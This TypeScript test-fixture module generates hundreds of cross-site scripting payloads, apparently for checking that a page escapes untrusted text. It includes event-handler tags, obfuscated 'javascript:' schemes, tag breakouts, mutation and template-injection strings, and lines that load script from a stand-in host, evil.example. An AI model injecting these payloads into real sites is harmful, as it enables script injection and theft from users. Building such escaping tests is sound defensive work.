const call = 'window.ran=1'

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onscroll',
  'ontransitionend',
  'onloadstart',
  'onbeforeinput',
] as const

const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe src=x',
  'audio src=x',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'marquee',
] as const

/** The starts of tags with attributes that a filter of texts may take for something else. */
const tags: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=${call}>`,
  (element, handler) => `<${element}/${handler}="${call}">`,
]

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript://%0a${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript&colon;${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `vbscript:${call}`,
  `blob:null/${call}`,
  `view-source:javascript:${call}`,
  `//evil.example/a.js`,
  String.raw`\\evil.example\a.js`,
  `https:evil.example/a.js`,
] as const

const breakouts = [
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `</select><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  '`><script>window.ran=1</script>',
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `\u2028</script><script>${call}</script>`,
  `<!--<script>${call}</script>-->`,
  `<scr<script>ipt>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script\u0000>${call}</script>`,
  `<script src=//evil.example/a.js></script>`,
  `<script type=module>import '//evil.example/a.js'</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>a</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${call}" /></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<math href="javascript:${call}">a</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/a.css>`,
  `<link rel=prefetch href=//evil.example/>`,
  `<style>@import '//evil.example/a.css'</style>`,
  `<div style="background:url(//evil.example/a.png)">a</div>`,
  `<form action=//evil.example/><button>a`,
  `<button form=a formaction="javascript:${call}">a</button>`,
  `<input type=image src=//evil.example/a.png>`,
  `<template><img src=x onerror=${call}></template>`,
  `<portal src=//evil.example/></portal>`,
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '#{window.ran=1}',
  '<%= window.ran=1 %>',
  '{"__html":"<img src=x onerror=window.ran=1>"}',
  '__proto__[innerHTML]=<img src=x onerror=window.ran=1>',
] as const

/** Texts that would run a script, or load from another site, on a page that does not escape them; a script sets `window.ran`. */
export const scripts: readonly string[] = [
  ...tags.flatMap((tag) => elements.flatMap((element) => handlers.map((handler) => tag(element, handler)))),
  ...handlers.map((handler) => `" ${handler}="${call}`),
  ...handlers.map((handler) => `' ${handler}='${call}`),
  ...schemes,
  ...schemes.map((scheme) => `<a href="${scheme}">a</a>`),
  ...breakouts,
]

/** One text of each kind, for the tests of every commit. */
export const someScripts: readonly string[] = [
  `<img src=x onerror=${call}>`,
  `" onmouseover="${call}`,
  `javascript:${call}`,
  `</script><script>${call}</script>`,
  `--><svg onload=${call}>`,
  '<base href=//evil.example/>',
]
